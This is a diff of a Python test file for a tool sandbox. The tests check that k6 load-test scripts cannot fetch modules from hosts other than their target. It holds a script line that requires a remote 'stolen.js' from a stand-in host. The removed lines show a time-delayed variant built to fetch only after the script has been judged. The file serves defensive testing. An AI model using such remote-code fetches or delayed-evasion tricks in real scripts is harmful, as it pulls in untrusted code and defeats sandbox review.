@@ -1,17 +1,13 @@
 """What the real tools may and may not do, whatever a script tries; and scripts that are broken."""
 
 import base64
-import contextlib
-import threading
-import time
 from dataclasses import dataclass
 from datetime import timedelta
-from functools import partial
 
 import pytest
 import trustme
 
-from runs import following, preparing
+from runs import preparing
 from runs.fencing import kernel
 from runs.host import identity
 from runs.host.workdir import work_directory
@@ -21,7 +17,6 @@ from runs.tools import Tool, ToolProblem, locust
 from runs.tools.k6 import loading
 from tests.runs.kept_in import kept_in, run_of
 from tests.runs.tools.local import Site, serve, tool_here
-from tests.waiting import until
 
 pytestmark = [pytest.mark.tool, pytest.mark.django_db]
 
@@ -150,29 +145,17 @@ def test_no_script_reaches_what_is_not_its_target(case: Case, site: Site) -> Non
     assert kept.ready.plan["enforced"][0].startswith(("Enforced by", "Held by the kernel"))
 
 
-@pytest.mark.parametrize("is_judged", [True, False])
-def test_no_module_of_k6s_is_fetched_from_what_is_not_its_target(
-    authority: trustme.CA, ca: str, monkeypatch: pytest.MonkeyPatch, is_judged: bool
+def test_no_module_of_k6s_is_fetched_before_the_calendar_has_said_yes(
+    authority: trustme.CA, ca: str, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """What a script requires is fetched by k6 itself, which leaves its deny list aside for that."""
     monkeypatch.setattr(kernel, "can_fence", lambda who: False)
     tool = tool_here("k6")
     with serve(authority.issue_cert(ANY)) as site:
         ask = f"try {{ require('https://{ANY}:{site.port}/stolen.js') }} catch {{ }}"
-        # It is loaded to be judged, and again to be run.
-        top = ask if is_judged else f"if (Date.now() > {(time.time() + 8) * 1000:.0f}) {ask}"
-        script = K6 % (top, "http.get(`${__ENV.TARGET}/`)")
-        # Its own map of hosts allows nothing.
-        script = script.replace("options = {", f"options = {{ hosts: {{ '{ANY}': '127.0.0.3' }},")
-        Target.objects.all().delete()
-        Target.objects.create(name="Another", hosts=["127.0.0.3"])
-        run = run_of(tool, script, target="http://127.0.0.3:9", ca=ca)
+        run = run_of(tool, K6 % (ask, "http.get(__ENV.TARGET)"), target=site.url, ca=ca)
         with work_directory(who := identity.choose(tool.find())) as workdir:
-            ready = preparing.prepare(run, tool, who, workdir)
-            threading.Event().wait(0 if is_judged else 9)
-            with contextlib.closing(following.begin(tool, ready, who, workdir)):
-                is_ready = partial(tool.is_ready, ready.job, tool.reader())
-                until(is_ready, within=20, what="k6's readiness")
+            preparing.prepare(run, tool, who, workdir)
     assert site.paths == []
 
 
